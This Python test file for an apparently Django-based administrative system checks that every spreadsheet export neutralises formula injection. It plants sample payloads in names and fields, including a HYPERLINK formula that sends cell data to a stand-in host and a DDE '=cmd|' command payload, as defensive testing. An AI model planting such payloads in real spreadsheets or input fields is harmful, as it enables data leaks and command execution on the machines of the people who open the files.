"""Every export, with a formula planted in every text field it writes: no cell of any exported
file is a formula (a village clerk's ``=HYPERLINK(...)`` must not run in the county office)."""

from __future__ import annotations

import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from lianxin.accounts.models import User
from lianxin.org.models import Unit
from tests.core.test_spreadsheets import assert_no_formulas

EVIL = '=HYPERLINK("http://x/?d="&A2,"点击")'
DAY = datetime(2026, 11, 18, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))


@pytest.fixture
def evil_world(world):
    """Every unit and user name starts with a formula (as a clerk could type them)."""
    for unit in Unit.objects.all():
        Unit.objects.filter(pk=unit.pk).update(name=f"{EVIL}{unit.pk}")
    for user in User.objects.all():
        User.objects.filter(pk=user.pk).update(display_name=f"+{user.pk}-SUM(A1)")
    for attr in (
        "county",
        "town_a",
        "town_b",
        "village_a",
        "village_b",
        "grid_a1",
        "grid_a2",
        "grid_b1",
        "department",
        "party_org_a",
        "party_org_b",
    ):
        getattr(world, attr).refresh_from_db()
    for user in world.users.values():
        user.refresh_from_db()
    return world


def _cells(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def _planted(data: bytes, *needles: str) -> None:
    assert_no_formulas(data)
    cells = _cells(data)
    for needle in needles:
        assert any(needle in c for c in cells), needle  # the planted text is there, as text


def test_venue_archive_names_addresses_phones_hours_and_hazards(evil_world, client, login):
    from tests.venues import factories as f

    venue = f.venue_for(
        evil_world.village_a, name=EVIL, address="@SUM(1)", phone="-1+1", opening_hours="\t=1"
    )
    f.hazard_for(venue, description="=cmd|' /C calc'!A0")
    login(evil_world.users["county_admin"])
    response = client.get(reverse("venues:venue_export"))
    assert response.status_code == 200
    _planted(response.content, EVIL, "@SUM(1)", "-1+1", "=cmd|", evil_world.village_a.name)


def test_venue_archive_written_by_the_worker_has_no_formula(evil_world, client, login, settings):
    from tests.venues import factories as f

    settings.LIANXIN_EXPORT_INLINE_ROWS = 0
    f.venue_for(evil_world.village_a, name=EVIL)
    login(evil_world.users["county_admin"])
    response = client.get(reverse("venues:venue_export"), follow=True)
    job = response.context["job"]
    assert job.state == "done" and job.has_result
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    _planted(b"".join(download.streaming_content), EVIL)


def test_training_coverage_units_and_people(evil_world, client, login):
    from tests.events.factories import make_programme

    prog = make_programme(evil_world)
    login(evil_world.users["town_a"])
    response = client.get(reverse("events:programme_export", args=[prog.pk]))
    assert response.status_code == 200
    _planted(response.content, EVIL, "-SUM(A1)")


def test_wish_statistics_towns_communities_claimants(evil_world, client, login):
    from tests.wishes.factories import make_wish

    with time_machine.travel(DAY, tick=False):
        make_wish(evil_world, "confirmed")
        login(evil_world.users["town_a"])
        response = client.get(reverse("wishes:stats_export") + "?year=2026")
    assert response.status_code == 200
    _planted(response.content, EVIL, "-SUM(A1)")


def test_ranking_unit_names(evil_world, client, login):
    from lianxin.cases import services as s
    from tests.cases.factories import ensure_categories, make_case

    ensure_categories()
    with time_machine.travel(DAY, tick=False):
        case = make_case(evil_world)
        s.case_accept(case=case, actor=evil_world.users["grid_a1"])
        login(evil_world.users["county_admin"])
        response = client.get(reverse("cases:ranking_export") + "?month=2026-11&level=village")
    assert response.status_code == 200
    _planted(response.content, EVIL)
